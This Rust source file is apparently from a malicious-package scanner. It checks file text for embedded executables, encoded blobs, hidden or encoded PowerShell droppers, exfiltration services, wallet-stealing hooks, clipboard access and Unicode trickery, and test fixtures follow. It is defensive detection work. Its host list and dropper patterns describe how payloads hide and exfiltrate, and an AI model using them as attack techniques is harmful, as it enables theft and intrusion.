//! Language-neutral checks on a file's bytes and text: embedded executables, entropy,
//! long and padded lines, blobs, endpoints, wallet and clipboard patterns, Unicode
//! tricks. They are lexical on purpose: they must work on any file, minified or broken.

use std::collections::BTreeSet;

use base64::Engine;

use crate::ids;
use crate::text::{clip, entropy, regexes, round2, Lines};
use crate::Signal;

regexes! {
    RE_URL = r#"(?i)\b(?:https?|wss?|ftp)://[^\s'"`<>()\\{}|^]+"#;
    RE_IPV4 = r"(?:^|[^0-9.])((?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])(?:\.(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3})(?:$|[^0-9.]|\.[^0-9])";
    RE_ETH_ADDR = r"\b0x[a-fA-F0-9]{40}\b";
    RE_BECH32_ADDR = r"\bbc1[ac-hj-np-z02-9]{25,59}\b";
    RE_WALLET_ETH = r"0x\\?\[(?:a-fA-F0-9|0-9a-fA-F|a-f0-9|0-9a-f|A-Fa-f0-9|0-9A-Fa-f|a-fA-F\\d|\\da-fA-F)\\?\]\{40\}";
    RE_WALLET_BASE58 = r"HJ-NP|1-9A-HJ|a-km-z";
    RE_WALLET_BTC = r"bc1\)?\??\[|\(bc1[qp]?\||\[13\]\[";
    RE_WALLET_TRX = r"T\[[1-9A-Za-z-]{6,}\]\{3[34]\}";
    RE_WALLET_LTC = r"\[LM3?\]\[|ltc1";
    RE_WALLET_HOOK = r"window\.ethereum|ethereum\.request\s*\(|eth_sendTransaction|window\.solana|solana\.signTransaction|XMLHttpRequest\.prototype\.(?:open|send)\s*=|(?:window|globalThis|self|global)\.fetch\s*=[^=]|(?:^|[;{}\s])fetch\s*=\s*(?:async\s+)?function";
    RE_CLIPBOARD = r"navigator\.clipboard|clipboardData|execCommand\(\s*['\x22](?:copy|paste)|\bpyperclip\b|\bclipboardy\b|\bpbcopy\b|\bpbpaste\b|\bxclip\b|\bxsel\b|Get-Clipboard|Set-Clipboard|win32clipboard|clipboard_get\(|clipboard_append\(|OpenClipboard|GetClipboardData|SetClipboardData";
    RE_HEX_ESCAPE = r"\\x[0-9a-fA-F]{2}";
    RE_PS_DOWNLOAD = r"(?i)\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|downloadfile|downloadstring|downloaddata|net\.webclient|start-bitstransfer|curl(?:\.exe)?|wget|bitsadmin)\b";
    RE_PS_RUN = r"(?i)\b(?:invoke-expression|iex|start-process|saps|invoke-item)\b|&\s*['\x22]?[^;|]*\.(?:exe|ps1|bat|cmd|vbs)\b|\.(?:exe|scr)['\x22]?\s*(?:;|$)";
    RE_ENCODED_SHELL = r"(?i)\bpowershell(?:\.exe)?\b[^\n]{0,300}?\s[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedcommand)\s+['\x22]?[A-Za-z0-9+/]{20,}={0,2}";
    RE_HIDDEN_SHELL = r"(?i)\bpowershell(?:\.exe)?\b[^\n]{0,300}?\s[-/](?:w|win|window|windowstyle)\s+['\x22]?hidden\b";
}

/// Hosts of request-catching, tunnelling and paste services that exfiltration favours.
const EXFIL_HOSTS: &[&str] = &[
    "webhook.site",
    "pipedream.net",
    "pipedream.com",
    "requestbin",
    "requestcatcher.com",
    "hookbin.com",
    "beeceptor.com",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "interact.sh",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "burpcollaborator.net",
    "oastify.com",
    "canarytokens.com",
    "dnslog.cn",
    "ceye.io",
    "transfer.sh",
    "pastebin.com",
    "hastebin.com",
    "paste.ee",
    "trycloudflare.com",
    "serveo.net",
    "loca.lt",
    "localtunnel.me",
    "api.telegram.org",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "ipinfo.io",
    "ifconfig.me",
    "api.ipify.org",
    "icanhazip.com",
    "checkip.amazonaws.com",
    "bit.ly",
    "temp.sh",
    "file.io",
    "anonfiles.com",
    "gofile.io",
];

/// Checks on raw bytes: executables hidden in the package.
pub fn binary_signals(rel: &str, bytes: &[u8], out: &mut Vec<Signal>) {
    if let Some(format) = executable_format(bytes) {
        let native_addon = rel.ends_with(".node");
        let detail = if native_addon {
            format!("{format} executable (native addon .node file)")
        } else {
            format!("{format} executable")
        };
        out.push(
            Signal::new(ids::EMBEDDED_EXECUTABLE, rel, None, detail).with_value(bytes.len() as f64),
        );
    }
}

/// Names the executable format `bytes` start with, if any.
pub fn executable_format(bytes: &[u8]) -> Option<&'static str> {
    if bytes.len() < 16 {
        return None;
    }
    match &bytes[..4] {
        [0x7f, b'E', b'L', b'F'] => return Some("ELF"),
        [0xfe, 0xed, 0xfa, 0xce] | [0xce, 0xfa, 0xed, 0xfe] => return Some("Mach-O"),
        [0xfe, 0xed, 0xfa, 0xcf] | [0xcf, 0xfa, 0xed, 0xfe] => return Some("Mach-O"),
        [0xca, 0xfe, 0xba, 0xbe] => {
            // Fat Mach-O shares its magic with Java class files; a fat header's arch count
            // is small, a class file's version word is >= 45.
            let n = u32::from_be_bytes([bytes[4], bytes[5], bytes[6], bytes[7]]);
            return (n > 0 && n < 30).then_some("Mach-O universal");
        }
        _ => {}
    }
    if bytes.starts_with(b"MZ") && bytes.len() >= 0x40 {
        let off = u32::from_le_bytes([bytes[0x3c], bytes[0x3d], bytes[0x3e], bytes[0x3f]]) as usize;
        if off + 4 <= bytes.len() && &bytes[off..off + 4] == b"PE\0\0" {
            return Some("PE");
        }
    }
    None
}

/// Whether a text looks minified: few, very long lines.
pub fn looks_minified(src: &str) -> bool {
    let (mut lines, mut max, mut last) = (0usize, 0usize, 0usize);
    for (i, _) in src.match_indices('\n') {
        lines += 1;
        max = max.max(i - last);
        last = i + 1;
    }
    if last < src.len() {
        lines += 1;
        max = max.max(src.len() - last);
    }
    let lines = lines.max(1);
    let avg = src.len() / lines;
    avg > 250 || (max > 3000 && lines < 50)
}

fn is_comment_line(line: &str) -> bool {
    let t = line.trim_start();
    t.starts_with("//") || t.starts_with("/*") || t.starts_with('*') || t.starts_with('#')
}

/// Text checks shared by JavaScript, Python and scripts.
pub fn text_signals(rel: &str, src: &str, out: &mut Vec<Signal>) {
    let lines = Lines::new(src);
    let minified = looks_minified(src);

    // Entropy of the whole file: ordinary source and minified bundles sit at 4.2-5.4
    // bits/byte; files that are mostly encoded payload go above 5.6.
    let h = entropy(src.as_bytes());
    if src.len() >= 1024 && h >= 5.6 {
        out.push(
            Signal::new(
                ids::HIGH_ENTROPY,
                rel,
                None,
                format!("file entropy {:.2} bits/byte", h),
            )
            .with_value(round2(h)),
        );
    }

    // Long lines only mean something in files that are otherwise hand-written.
    if !minified {
        let mut reported = 0;
        for (i, line) in src.lines().enumerate() {
            // Data tables in hand-written files (typescript's Unicode ranges) run to
            // 10k characters of digits and commas at ~3.5 bits/byte; code or payload
            // hidden on one line is richer (>= 4.2) or looks random (>= 5.5).
            if line.len() <= 1000 || reported >= 3 {
                continue;
            }
            let h = entropy(line.as_bytes());
            if h >= 5.5 || (line.len() > 5000 && h >= 4.2) {
                reported += 1;
                out.push(
                    Signal::new(
                        ids::LONG_LINE,
                        rel,
                        Some(i as u32 + 1),
                        format!(
                            "{} character line (entropy {:.2}) in a non-minified file",
                            line.len(),
                            h
                        ),
                    )
                    .with_value(line.len() as f64),
                );
            }
        }
    }
    if let Some((start, end)) = padding(src.as_bytes()) {
        out.push(
            Signal::new(
                ids::WHITESPACE_PADDING,
                rel,
                Some(lines.line_of(start)),
                "code hidden after a long run of whitespace on one line",
            )
            .with_value((end - start) as f64),
        );
    }

    blobs(rel, src, &lines, out);
    encoded_shell(rel, src, &lines, out);
    endpoints(rel, src, &lines, out);
    wallet_and_clipboard(rel, src, &lines, out);
    crate::stealer::text_signals(rel, src, &lines, out);
    unicode_tricks(rel, src, &lines, out);

    if let Some(re) = &*RE_HEX_ESCAPE {
        let n = re.find_iter(src).count();
        if n >= 100 && (n * 4) as f64 / src.len() as f64 > 0.1 {
            out.push(
                Signal::new(
                    ids::ESCAPED_STRINGS,
                    rel,
                    None,
                    format!("{n} \\xNN escapes"),
                )
                .with_value(n as f64),
            );
        }
    }
}

fn blobs(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let mut hex_spans = Vec::new();
    let spans = blob_spans(src);
    {
        let hex = |b: u8| b.is_ascii_hexdigit();
        let found = spans
            .iter()
            .flat_map(|s| runs_in(src, s.start, s.end, &hex, 200, false));
        for m in found {
            hex_spans.push((m.start(), m.end()));
            let decoded: Vec<u8> = (0..m.as_str().len().min(64) / 2)
                .filter_map(|i| u8::from_str_radix(&m.as_str()[2 * i..2 * i + 2], 16).ok())
                .collect();
            let exe = executable_format(&pad16(&decoded))
                .map(|f| format!(", decodes to {f}"))
                .unwrap_or_default();
            out.push(
                Signal::new(
                    ids::HEX_BLOB,
                    rel,
                    Some(lines.line_of(m.start())),
                    format!("{} hex characters{exe}", m.len()),
                )
                .with_value(m.len() as f64),
            );
        }
    }
    {
        for m in base64_runs(src, &spans) {
            if hex_spans
                .iter()
                .any(|(s, e)| *s >= m.start() && *e <= m.end())
                && is_hex(m.as_str())
            {
                continue;
            }
            let s = m.as_str();
            let before = &src[m.start().saturating_sub(80)..m.start()];
            if before.contains("sourceMappingURL=data:")
                || before.contains("data:image/")
                || before.contains("data:font/")
            {
                continue;
            }
            // Require a base64-like mix: long identifiers and paths are not blobs.
            let upper = s.bytes().filter(u8::is_ascii_uppercase).count();
            let lower = s.bytes().filter(u8::is_ascii_lowercase).count();
            let digit = s.bytes().filter(u8::is_ascii_digit).count();
            let h = entropy(s.as_bytes());
            if upper == 0 || lower == 0 || digit == 0 || h < 4.5 {
                continue;
            }
            let head: String = s.chars().take(64).collect();
            let head = head.trim_end_matches('=');
            let usable = head.len() / 4 * 4;
            let decoded = base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(&head[..usable])
                .or_else(|_| {
                    base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(&head[..usable])
                })
                .unwrap_or_default();
            let exe = executable_format(&pad16(&decoded))
                .map(|f| format!(", decodes to {f}"))
                .unwrap_or_default();
            out.push(
                Signal::new(
                    ids::BASE64_BLOB,
                    rel,
                    Some(lines.line_of(m.start())),
                    format!(
                        "{} base64 characters, entropy {:.2}{exe}: {}",
                        s.len(),
                        h,
                        clip(s, 40)
                    ),
                )
                .with_value(s.len() as f64),
            );
        }
    }
}

/// A PowerShell started with an encoded command or a hidden window: how a payload
/// hides what it runs (`powershell -WindowStyle Hidden -EncodedCommand <base64>`).
fn encoded_shell(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let enc = RE_ENCODED_SHELL.as_ref().and_then(|r| r.find(src));
    let hid = RE_HIDDEN_SHELL.as_ref().and_then(|r| r.find(src));
    let (what, n) = match (&enc, &hid) {
        (Some(_), Some(_)) => (
            "PowerShell with a hidden window and an encoded command",
            2.0,
        ),
        (Some(_), None) => ("PowerShell with an encoded command", 1.0),
        (None, Some(_)) => ("PowerShell with a hidden window", 1.0),
        (None, None) => return,
    };
    let Some(m) = [enc, hid].into_iter().flatten().min_by_key(|m| m.start()) else {
        return;
    };
    // The encoded command itself (base64 of UTF-16LE): a hidden one that downloads and
    // runs something is a dropper, whatever the file around it looks like.
    let decoded = enc
        .map(|e| decode_powershell(src, e.end()))
        .unwrap_or_default();
    let dropper = !decoded.is_empty()
        && RE_PS_DOWNLOAD
            .as_ref()
            .is_some_and(|r| r.is_match(&decoded))
        && RE_PS_RUN.as_ref().is_some_and(|r| r.is_match(&decoded));
    let (what, n) = if dropper {
        (
            format!("{what}, which downloads and runs a program"),
            n + 1.0,
        )
    } else {
        (what.to_string(), n)
    };
    let shown = if decoded.is_empty() {
        String::new()
    } else {
        format!(" (decoded: {})", clip(&decoded, 160))
    };
    out.push(
        Signal::new(
            ids::ENCODED_SHELL_COMMAND,
            rel,
            Some(lines.line_of(m.start())),
            format!("{what}: {}{shown}", clip(m.as_str(), 120)),
        )
        .with_value(n),
    );
}

/// The text of `-EncodedCommand <base64>` whose match ends at `end` (the regex stops
/// after 20 base64 characters; the rest of the run follows): UTF-16LE, as PowerShell
/// takes it. Empty when it does not decode.
fn decode_powershell(src: &str, end: usize) -> String {
    use base64::Engine;
    let head = &src[..end];
    let start = head
        .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
        .map_or(0, |i| i + 1);
    let tail = &src[end..];
    let more = tail
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
        .unwrap_or(tail.len());
    let b64 = src[start..end + more.min(64 * 1024)].trim_end_matches('=');
    let Ok(bytes) = base64::engine::general_purpose::STANDARD_NO_PAD.decode(b64) else {
        return String::new();
    };
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let text = String::from_utf16_lossy(&units);
    if text
        .chars()
        .filter(|c| c.is_control() && !c.is_whitespace())
        .count()
        > text.len() / 10
    {
        return String::new();
    }
    text
}

/// A run of bytes found by [`runs`]: what a regex match gave before (the regexes
/// `[0-9a-fA-F]{200,}` and `[A-Za-z0-9+/]{200,}={0,2}` made the lazy DFA count to 300
/// on every identifier and took a fifth of the pass on typescript).
#[derive(Clone, Copy)]
struct Run<'s> {
    src: &'s str,
    start: usize,
    end: usize,
}

impl<'s> Run<'s> {
    fn start(&self) -> usize {
        self.start
    }
    fn end(&self) -> usize {
        self.end
    }
    fn len(&self) -> usize {
        self.end - self.start
    }
    fn as_str(&self) -> &'s str {
        self.src.get(self.start..self.end).unwrap_or("")
    }
}

/// Maximal runs of ASCII bytes in `class` at least `min` long, optionally followed by
/// up to two `=` (base64 padding).
fn runs(src: &str, class: impl Fn(u8) -> bool, min: usize, padded: bool) -> Vec<Run<'_>> {
    runs_in(src, 0, src.len(), &class, min, padded)
}

/// [`runs`] within `src[from..to]` (padding may extend past `to`).
fn runs_in<'s>(
    src: &'s str,
    from: usize,
    to: usize,
    class: &impl Fn(u8) -> bool,
    min: usize,
    padded: bool,
) -> Vec<Run<'s>> {
    let b = src.as_bytes();
    let to = to.min(b.len());
    let mut out = Vec::new();
    let mut i = from;
    while i < to {
        if !class(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < to && class(b[i]) {
            i += 1;
        }
        if i - start >= min {
            let mut end = i;
            while padded && end < b.len() && end - i < 2 && b[end] == b'=' {
                end += 1;
            }
            out.push(Run { src, start, end });
        }
    }
    out
}

/// Runs of 200+ bytes that could hold a blob (any base64 or hex alphabet): one pass
/// over the file; the exact alphabets are then looked for inside these few spans.
fn blob_spans(src: &str) -> Vec<Run<'_>> {
    const fn table() -> [bool; 256] {
        let mut t = [false; 256];
        let mut c = 0;
        while c < 256 {
            let b = c as u8;
            t[c] = b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'_' || b == b'-';
            c += 1;
        }
        t
    }
    static BLOB: [bool; 256] = table();
    runs(src, |b| BLOB[b as usize], 200, false)
}

/// Standard (`+/`) runs of 200+ and URL-safe (`-_`) runs of 300+, leftmost first,
/// without overlaps.
fn base64_runs<'s>(src: &'s str, spans: &[Run<'s>]) -> Vec<Run<'s>> {
    let std = |b: u8| b.is_ascii_alphanumeric() || b == b'+' || b == b'/';
    let url = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'-';
    let mut all: Vec<Run<'_>> = Vec::new();
    for s in spans {
        all.extend(runs_in(src, s.start, s.end, &std, 200, true));
        all.extend(runs_in(src, s.start, s.end, &url, 300, true));
    }
    all.sort_by_key(|r| (r.start, std::cmp::Reverse(r.end)));
    let mut out: Vec<Run<'_>> = Vec::new();
    for r in all {
        if out.last().is_none_or(|l| r.start >= l.end) {
            out.push(r);
        }
    }
    out
}

/// The first run of 150+ spaces or tabs between two non-space bytes on one line: code
/// pushed off the right edge of an editor. Candidates are found by searching for 32
/// blanks in a row (a substring search), then widened.
fn padding(b: &[u8]) -> Option<(usize, usize)> {
    let space = |c: u8| c == b' ' || c == b'\t';
    let blank = |c: u8| c.is_ascii_whitespace();
    let text = std::str::from_utf8(b).ok()?;
    let mut from = 0;
    while from < b.len() {
        let next = [" ".repeat(32), "\t".repeat(32)]
            .iter()
            .filter_map(|needle| text[from..].find(needle.as_str()))
            .min()?;
        let mut start = from + next;
        while start > 0 && space(b[start - 1]) {
            start -= 1;
        }
        let mut end = from + next;
        while end < b.len() && space(b[end]) {
            end += 1;
        }
        if end - start >= 150
            && start > 0
            && !blank(b[start - 1])
            && end < b.len()
            && !blank(b[end])
        {
            return Some((start - 1, end + 1));
        }
        from = end.max(from + 1);
    }
    None
}

fn pad16(b: &[u8]) -> Vec<u8> {
    let mut v = b.to_vec();
    v.resize(v.len().max(64), 0);
    v
}

fn is_hex(s: &str) -> bool {
    s.bytes().all(|b| b.is_ascii_hexdigit())
}

/// The host part of a URL (lowercase, without port or credentials).
pub fn url_host(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let hostport = authority.rsplit('@').next()?;
    let host = if let Some(stripped) = hostport.strip_prefix('[') {
        stripped.split(']').next()?
    } else {
        hostport.split(':').next()?
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

pub(crate) fn exfil_service(url_lower: &str, host: &str) -> Option<&'static str> {
    EXFIL_HOSTS.iter().copied().find(|h| {
        if h.contains('/') {
            url_lower.contains(h)
        } else {
            host == *h || host.ends_with(&format!(".{h}")) || (!h.contains('.') && host.contains(h))
        }
    })
}

/// Classifies an IPv4 address: public addresses matter most.
fn ip_is_public(ip: &str) -> bool {
    let o: Vec<u8> = ip.split('.').filter_map(|p| p.parse().ok()).collect();
    if o.len() != 4 {
        return false;
    }
    !(o[0] == 0
        || o[0] == 10
        || o[0] == 127
        || o[0] >= 224
        || (o[0] == 169 && o[1] == 254)
        || (o[0] == 172 && (16..32).contains(&o[1]))
        || (o[0] == 192 && o[1] == 168)
        || (o[0] == 100 && (64..128).contains(&o[1])))
}

fn endpoints(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let mut hosts = BTreeSet::new();
    let mut ips = BTreeSet::new();
    // Only lines with a `://` or a digit-dot-digit can hold an endpoint: find those in
    // one pass over the file instead of visiting each of typescript's 300k lines.
    let b = src.as_bytes();
    let mut candidates: Vec<u32> = src
        .match_indices("://")
        .map(|(i, _)| lines.line_of(i))
        .collect();
    for i in 1..b.len().saturating_sub(1) {
        if b[i] == b'.' && b[i - 1].is_ascii_digit() && b[i + 1].is_ascii_digit() {
            candidates.push(lines.line_of(i));
        }
    }
    candidates.sort_unstable();
    candidates.dedup();
    for lineno in candidates {
        let line = lines.text(src, lineno);
        if is_comment_line(line) || line.len() > 100_000 && !line.contains("://") {
            continue;
        }
        let has_url = line.contains("://");
        let has_quad = line
            .as_bytes()
            .windows(3)
            .any(|w| w[0].is_ascii_digit() && w[1] == b'.' && w[2].is_ascii_digit());
        if !has_url && !has_quad {
            continue;
        }
        if let Some(re) = RE_URL.as_ref().filter(|_| has_url) {
            for m in re.find_iter(line) {
                let url = m.as_str().trim_end_matches(['.', ',', ';', ':']);
                let Some(host) = url_host(url) else { continue };
                if !hosts.insert(host.clone()) {
                    continue;
                }
                let lower = url.to_ascii_lowercase();
                if let Some(svc) = exfil_service(&lower, &host) {
                    out.push(Signal::new(
                        ids::ENDPOINT_EXFIL_SERVICE,
                        rel,
                        Some(lineno),
                        format!("{svc}: {}", clip(url, 200)),
                    ));
                }
                let is_ip = host.parse::<std::net::Ipv4Addr>().is_ok();
                out.push(
                    Signal::new(ids::ENDPOINT_URL, rel, Some(lineno), clip(url, 200))
                        .with_value(if is_ip { 1.0 } else { 0.0 }),
                );
            }
        }
        if let Some(re) = RE_IPV4.as_ref().filter(|_| has_quad) {
            for c in re.captures_iter(line) {
                let Some(ip) = c.get(1) else { continue };
                let ip = ip.as_str();
                // Version-like quads (1.2.3.4 in a changelog) are ruled out by requiring
                // the address to sit in a string, URL or assignment context.
                let ctx_ok = line.contains(&format!("\"{ip}"))
                    || line.contains(&format!("'{ip}"))
                    || line.contains(&format!("`{ip}"))
                    || line.contains(&format!("//{ip}"))
                    || line.contains(&format!("@{ip}"));
                if !ctx_ok || !ips.insert(ip.to_string()) {
                    continue;
                }
                let public = ip_is_public(ip);
                out.push(
                    Signal::new(
                        ids::ENDPOINT_IP,
                        rel,
                        Some(lineno),
                        format!(
                            "{ip} ({})",
                            if public {
                                "public"
                            } else {
                                "private or reserved"
                            }
                        ),
                    )
                    .with_value(if public { 1.0 } else { 0.0 }),
                );
            }
        }
    }
}

/// Literals the wallet and hook regexes need (each pattern contains one of them).
const PREFILTER_LITERALS: &[&str] = &[
    "{40}",
    "HJ-NP",
    "1-9A-HJ",
    "a-km-z",
    "bc1",
    "[13][",
    "{33}",
    "{34}",
    "[L",
    "ltc1",
    "ethereum",
    "solana",
    "XMLHttpRequest",
    "fetch",
];

/// Which [`PREFILTER_LITERALS`] occur in `src`, found in one pass (aho-corasick inside
/// a literal `RegexSet`) instead of one search per literal.
fn literals_in(src: &str) -> Vec<&'static str> {
    static SET: std::sync::LazyLock<Option<regex::RegexSet>> = std::sync::LazyLock::new(|| {
        regex::RegexSet::new(PREFILTER_LITERALS.iter().map(|l| regex::escape(l))).ok()
    });
    match &*SET {
        Some(set) => set
            .matches(src)
            .into_iter()
            .map(|i| PREFILTER_LITERALS[i])
            .collect(),
        // Cannot happen (escaped literals); fall back to "everything may be there".
        None => PREFILTER_LITERALS.to_vec(),
    }
}

fn wallet_and_clipboard(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    let mut coins = Vec::new();
    let mut first = None;
    // Each pattern needs one of its literals; checking those first skips the regexes
    // (several start with `[`, which every JavaScript file is full of).
    let present = literals_in(src);
    let has = |words: &[&str]| words.iter().any(|w| present.contains(w));
    for (coin, re, words) in [
        ("ETH", &*RE_WALLET_ETH, &["{40}"][..]),
        (
            "base58 (BTC/SOL/TRX)",
            &*RE_WALLET_BASE58,
            &["HJ-NP", "1-9A-HJ", "a-km-z"][..],
        ),
        ("BTC bech32", &*RE_WALLET_BTC, &["bc1", "[13]["][..]),
        ("TRX", &*RE_WALLET_TRX, &["{33}", "{34}"][..]),
        ("LTC", &*RE_WALLET_LTC, &["[L", "ltc1"][..]),
    ] {
        if !has(words) {
            continue;
        }
        if let Some(m) = re.as_ref().and_then(|r| r.find(src)) {
            coins.push(coin);
            first = Some(first.map_or(m.start(), |f: usize| f.min(m.start())));
        }
    }
    if !coins.is_empty() && coins != ["LTC"] {
        out.push(
            Signal::new(
                ids::WALLET_REGEX,
                rel,
                first.map(|o| lines.line_of(o)),
                format!("wallet address patterns: {}", coins.join(", ")),
            )
            .with_value(coins.len() as f64),
        );
    }
    let mut addrs = 0;
    let mut first_addr = None;
    for re in [&*RE_ETH_ADDR, &*RE_BECH32_ADDR].into_iter().flatten() {
        for m in re.find_iter(src) {
            addrs += 1;
            first_addr.get_or_insert((m.start(), m.as_str().to_string()));
        }
    }
    if let Some((off, a)) = first_addr {
        out.push(
            Signal::new(
                ids::WALLET_ADDRESS,
                rel,
                Some(lines.line_of(off)),
                format!("{addrs} wallet addresses, first {a}"),
            )
            .with_value(addrs as f64),
        );
    }
    // Every alternative of the hook regex names one of these; most files name none.
    let hook_words = ["ethereum", "solana", "XMLHttpRequest", "fetch"];
    let maybe_hook = hook_words.iter().any(|w| present.contains(w));
    if let Some(re) = RE_WALLET_HOOK.as_ref().filter(|_| maybe_hook) {
        let found: BTreeSet<String> = re
            .find_iter(src)
            .map(|m| m.as_str().trim().to_string())
            .collect();
        if let Some(m) = re.find(src) {
            out.push(
                Signal::new(
                    ids::WALLET_HOOK,
                    rel,
                    Some(lines.line_of(m.start())),
                    format!(
                        "hooks or wallet APIs: {}",
                        clip(&found.into_iter().collect::<Vec<_>>().join(", "), 200)
                    ),
                )
                .with_value(re.find_iter(src).count() as f64),
            );
        }
    }
    if let Some(re) = &*RE_CLIPBOARD {
        if let Some(m) = re.find(src) {
            out.push(Signal::new(
                ids::CLIPBOARD_ACCESS,
                rel,
                Some(lines.line_of(m.start())),
                format!("clipboard access: {}", m.as_str()),
            ));
        }
    }
}

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
}

fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{200B}'..='\u{200D}'
            | '\u{2060}'..='\u{2064}'
            | '\u{3164}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{FFA0}'
            | '\u{FE00}'..='\u{FE0E}'
            | '\u{E0100}'..='\u{E01EF}'
            | '\u{E0000}'..='\u{E007F}'
    )
}

fn script_of(c: char) -> Option<&'static str> {
    match c {
        'a'..='z' | 'A'..='Z' => Some("Latin"),
        '\u{0370}'..='\u{03FF}' => Some("Greek"),
        '\u{0400}'..='\u{052F}' => Some("Cyrillic"),
        '\u{0530}'..='\u{058F}' => Some("Armenian"),
        _ => None,
    }
}

/// Whether `word` mixes Latin letters with Greek, Cyrillic or Armenian ones.
pub fn mixes_scripts(word: &str) -> bool {
    let mut latin = false;
    let mut other = false;
    for c in word.chars() {
        match script_of(c) {
            Some("Latin") => latin = true,
            Some(_) => other = true,
            None => {}
        }
    }
    latin && other
}

fn unicode_tricks(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
    if src.is_ascii() {
        return;
    }
    let mut bidi = 0usize;
    let mut bidi_first = None;
    let mut invis = 0usize;
    let mut invis_first = None;
    // Trojan source hides logic in ordinary code lines; bidi controls inside data tables
    // on one very long line (webpack's HTML syntax tables) are data.
    let mut line_start = 0usize;
    let mut line_long = false;
    for (i, c) in src.char_indices() {
        if i == line_start {
            line_long = src[i..].split('\n').next().is_some_and(|l| l.len() > 1000);
        }
        if c == '\n' {
            line_start = i + 1;
        }
        if is_bidi(c) {
            if !line_long {
                bidi += 1;
                bidi_first.get_or_insert(i);
            }
        } else if is_invisible(c) || (c == '\u{FEFF}' && i > 0) {
            invis += 1;
            invis_first.get_or_insert(i);
        }
    }
    if let Some(off) = bidi_first {
        out.push(
            Signal::new(
                ids::BIDI_CONTROL,
                rel,
                Some(lines.line_of(off)),
                format!("{bidi} bidirectional control characters"),
            )
            .with_value(bidi as f64),
        );
    }
    if let Some(off) = invis_first {
        out.push(
            Signal::new(
                ids::INVISIBLE_CHARACTER,
                rel,
                Some(lines.line_of(off)),
                format!("{invis} invisible or variation-selector characters"),
            )
            .with_value(invis as f64),
        );
    }
    let mut mixed = 0usize;
    let mut first = None;
    let mut start = None;
    let bytes_end = src.len();
    for (i, c) in src.char_indices().chain(std::iter::once((bytes_end, ' '))) {
        if c.is_alphanumeric() || c == '_' || c == '$' {
            start.get_or_insert(i);
        } else if let Some(s) = start.take() {
            let word = &src[s..i];
            if !word.is_ascii() && mixes_scripts(word) {
                mixed += 1;
                first.get_or_insert((s, word.to_string()));
            }
        }
    }
    if let Some((off, word)) = first {
        out.push(
            Signal::new(
                ids::HOMOGLYPH_IDENTIFIER,
                rel,
                Some(lines.line_of(off)),
                format!("{mixed} words mix Latin with Greek/Cyrillic letters, first {word:?}"),
            )
            .with_value(mixed as f64),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn regexes_compile() {
        for (name, ok) in all_regexes() {
            assert!(ok, "{name} does not compile");
        }
    }

    fn ids_of(rel: &str, src: &str) -> Vec<String> {
        let mut out = Vec::new();
        text_signals(rel, src, &mut out);
        out.into_iter().map(|s| s.signal).collect()
    }

    #[test]
    fn executable_magic() {
        let mut elf = vec![0x7f, b'E', b'L', b'F'];
        elf.resize(64, 0);
        assert_eq!(executable_format(&elf), Some("ELF"));
        let mut pe = vec![0u8; 128];
        pe[0] = b'M';
        pe[1] = b'Z';
        pe[0x3c] = 0x40;
        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
        assert_eq!(executable_format(&pe), Some("PE"));
        let mut mz_text = b"MZ is just text here, not a header at all......".to_vec();
        mz_text.resize(128, b'.');
        assert_eq!(executable_format(&mz_text), None);
        let mut java = vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52];
        java.resize(32, 0);
        assert_eq!(executable_format(&java), None);
        let mut fat = vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2];
        fat.resize(32, 0);
        assert_eq!(executable_format(&fat), Some("Mach-O universal"));
        assert_eq!(executable_format(b"#!/bin/sh\necho hello world\n"), None);
    }

    #[test]
    fn urls_ips_and_exfil() {
        let src = "const a = 'https://webhook.site/abc';\nconst b = \"http://45.9.148.3:8080/x\";\n// see https://commented.example/\nconst v = '10.0.0.1';\nversion 1.2.3.4 is out\n";
        let mut out = Vec::new();
        text_signals("a.js", src, &mut out);
        let exfil: Vec<_> = out
            .iter()
            .filter(|s| s.signal == ids::ENDPOINT_EXFIL_SERVICE)
            .collect();
        assert_eq!(exfil.len(), 1);
        assert_eq!(exfil[0].line, Some(1));
        let urls: Vec<_> = out
            .iter()
            .filter(|s| s.signal == ids::ENDPOINT_URL)
            .map(|s| s.detail.as_str())
            .collect();
        assert_eq!(
            urls,
            vec!["https://webhook.site/abc", "http://45.9.148.3:8080/x"]
        );
        let ips: Vec<_> = out
            .iter()
            .filter(|s| s.signal == ids::ENDPOINT_IP)
            .collect();
        assert_eq!(ips.len(), 2, "{ips:?}");
        assert_eq!(ips[0].value, Some(1.0));
        assert_eq!(ips[1].value, Some(0.0));
        assert!(!out.iter().any(|s| s.detail.contains("1.2.3.4")));
